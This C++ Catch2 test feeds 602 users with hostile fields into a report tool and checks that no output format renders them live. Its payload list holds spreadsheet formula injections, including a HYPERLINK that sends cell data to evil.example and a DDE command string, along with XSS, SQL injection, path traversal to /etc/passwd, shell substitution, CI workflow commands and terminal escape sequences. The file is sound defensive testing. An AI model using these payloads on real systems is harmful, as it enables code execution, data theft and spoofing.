// SPDX-License-Identifier: Apache-2.0
// 602 users whose every field is an attack on whoever opens a report: through each format, none may come alive, and
// what machines read back must be what the export said.
#include <unistd.h>

#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "seatlint/cli.hpp"
#include "seatlint/report.hpp"

namespace hostile_users_test {

using namespace seatlint;

namespace {

namespace fs = std::filesystem;

constexpr int hostile_users = 602;

const std::vector<std::string>& payloads() {
  static const std::vector<std::string> texts{
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "<script>alert(1)</script>",
      "</script><script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "\"><svg onload=alert(1)>",
      "' onmouseover='alert(1)",
      "<!--#exec cmd=\"ls\"-->",
      "]]><x/>",
      "&lt;b&gt;&#x41;&amp;",
      "\x1b[31mred\x1b]0;title\x07\x1b[2J",
      "\xc2\x9b"
      "31m",
      "\xe2\x80\xae"
      "gnp.exe",
      "\xe2\x81\xa6isolated\xe2\x81\xa9",
      "zero\xe2\x80\x8bwidth\xef\xbb\xbf"
      "end",
      "'; DROP TABLE user_row; --",
      "\" OR \"1\"=\"1",
      "../../etc/passwd",
      "C:\\Windows\\System32\\cmd.exe",
      "\\\\server\\share\\x",
      "file:///etc/passwd",
      "[click](javascript:alert(1))",
      "![x](http://evil.example/x.png)",
      "`code` ``more`` |cell| <u>",
      "@channel #1 https://evil.example www.evil.example",
      "::error file=x::owned",
      "%0A::error::owned",
      "##[set-output name=x]owned",
      "$(touch owned) `touch owned` ${HOME}",
      "label\",user=\"x\"} 1",
      "line\nbreak",
      "tab\there",
      "comma, \"quote\"; semicolon",
      "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb \xe6\xa0\xaa\xe5\xbc\x8f\xe4\xbc\x9a\xe7\xa4\xbe",
      "{{constructor.constructor('alert(1)')()}}",
      "javascript:alert(1)//"};
  return texts;
}

std::string field(int user, int column) {
  const auto& texts = payloads();
  const std::string& text = texts[static_cast<std::size_t>(user + column * 7) % texts.size()];
  return column < 3 ? text + " " + std::to_string(user) : text;
}

std::string quoted(const std::string& text) {
  std::string result = "\"";
  for (const char c : text) result += c == '"' ? "\"\"" : std::string(1, c);
  return result + "\"";
}

std::vector<std::vector<std::string>> parsed_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
  bool inside = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (inside && c == '"' && i + 1 < text.size() && text[i + 1] == '"')
      rows.back().back() += '"', ++i;
    else if (c == '"')
      inside = !inside;
    else if (!inside && c == ',')
      rows.back().emplace_back();
    else if (!inside && c == '\n')
      rows.emplace_back(1);
    else
      rows.back().back() += c;
  }
  rows.pop_back();
  return rows;
}

class Office {
 public:
  Office() : folder_(fs::temp_directory_path() / ("seatlint-hostile-" + std::to_string(::getpid()))) {
    fs::create_directories(folder_);
    std::ofstream out(folder_ / "users.csv", std::ios::binary);
    out << "User ID,Login,E-mail,Name,Title,Department,Manager,Plan,Active,Created\n";
    for (int user = 0; user < hostile_users; ++user) {
      for (int column = 0; column < 7; ++column) out << quoted(field(user, column)) << ',';
      out << (user % 20 == 19 ? quoted(field(user, 7)) : "Professional") << ",no,2024-01-01\n";
    }
    out.close();
    run_line({"-q", "import", (folder_ / "users.csv").string(), "--profile", "generic-users", "--snapshot-date",
              "2026-09-15"});
  }
  ~Office() { fs::remove_all(folder_); }

  std::string run_line(std::vector<std::string> args, bool terminal = false) const {
    args.insert(args.begin(),
                {"--color", "never", "--db", (folder_ / "s.db").string()});  // our own colors are no payload
    Environment environment;
    environment.today = make_day(2026, 9, 20);
    environment.stdout_is_terminal = terminal;
    environment.columns = 140;
    std::istringstream in;
    std::ostringstream out, err;
    const int code = run(args, in, out, err, environment);
    INFO(err.str());
    CHECK(code == 0);
    return out.str();
  }
  std::string report(const std::string& format, const std::string& names = "show", bool terminal = false) const {
    return run_line({"audit", "-o", format, "--names", names, "--group-by", "department"}, terminal);
  }

 private:
  fs::path folder_;
};

std::size_t count(const std::string& text, std::string_view part) {
  std::size_t found = 0;
  for (auto at = text.find(part); at != std::string::npos; at = text.find(part, at + part.size())) ++found;
  return found;
}

/// No byte a terminal obeys and nothing that turns the direction of text.
bool is_tame(const std::string& text) {
  for (const char c : text)
    if ((static_cast<unsigned char>(c) < 0x20 && c != '\n' && c != '\t') || c == '\x7f') return false;
  for (const char* part : {"\xe2\x80\xae", "\xe2\x81\xa6", "\xc2\x9b", "\xe2\x80\x8b"})
    if (count(text, part) != 0) return false;
  return true;
}

}  // namespace

TEST_CASE("602 hostile users: no format comes alive, csv and json give back what was said") {
  const Office office;

  SECTION("for terminals and logs") {
    for (const char* format : {"table", "plain", "markdown", "html", "junit", "github", "gitlab", "prom"})
      for (const char* names : {"show", "pseudonym", "hide"}) CHECK(is_tame(office.report(format, names, true)));
    for (const char* format : {"csv", "json", "jsonl", "sarif"}) CHECK(is_tame(office.report(format, "show", true)));
  }
  SECTION("html: one style, one data block, one script, nothing else that runs or loads") {
    const std::string page = office.report("html");
    CHECK(count(page, "<script") == 2);
    CHECK(count(page, "</script") == 2);
    for (const char* live :
         {"<img", "<svg onload", "onerror=alert(1)>", "<u>", "href=\"javascript", " src=\"", "<!--", "<b>alert"})
      CHECK(count(page, live) == 0);
  }
  SECTION("markdown: every payload is text") {
    const std::string page = office.report("markdown");
    for (const char* live : {"\n=HYPER", "](javascript:alert(1))\n", "<script>alert(1)</script> |"}) {
      INFO(live);
      CHECK(count(page, live) == 0);
    }
  }
  SECTION("github: no line but our own commands") {
    std::istringstream lines(office.report("github"));
    for (std::string line; std::getline(lines, line);)
      CHECK((line.starts_with("::error file=") || line.starts_with("::warning file=") ||
             line.starts_with("::notice file=") || line.find(" left out, ") != std::string::npos));
  }
  SECTION("prom: no person in any label") { CHECK(count(office.report("prom", "show"), "user") == 0); }
  SECTION("json and csv round-trip") {
    std::set<std::string> logins, names, departments;
    for (int user = 0; user < hostile_users; ++user) {
      logins.insert(field(user, 1));
      names.insert(field(user, 3));
      departments.insert(field(user, 5));
    }
    const auto json = nlohmann::json::parse(office.report("json"));
    std::size_t persons = 0;
    for (const auto& finding : json.at("findings")) {
      if (finding.at("account").is_null()) continue;
      ++persons;
      CHECK(logins.contains(finding.at("user").get<std::string>()));
      CHECK(names.contains(finding.at("name").get<std::string>()));
      CHECK(departments.contains(finding.at("department").get<std::string>()));
    }
    CHECK(persons > 500);
    const auto rows = parsed_csv(office.report("csv"));
    REQUIRE(rows.size() == json.at("findings").size() + 1);
    for (std::size_t i = 1; i < rows.size(); ++i) {
      REQUIRE(rows[i].size() == rows[0].size());
      const auto& finding = json.at("findings")[i - 1];
      const std::string& cell = rows[i][7];
      const std::string user = finding.at("user");
      const bool guarded = !user.empty() && std::string("=+-@\t\r\n").find(user.front()) != std::string::npos;
      CHECK(cell == (guarded ? "'" + user : user));
      CHECK((cell.empty() || std::string("=+-@").find(cell.front()) == std::string::npos));
    }
    CHECK_NOTHROW(nlohmann::json::parse(office.report("sarif")));
    CHECK_NOTHROW(nlohmann::json::parse(office.report("gitlab")));
  }
}

}  // namespace hostile_users_test
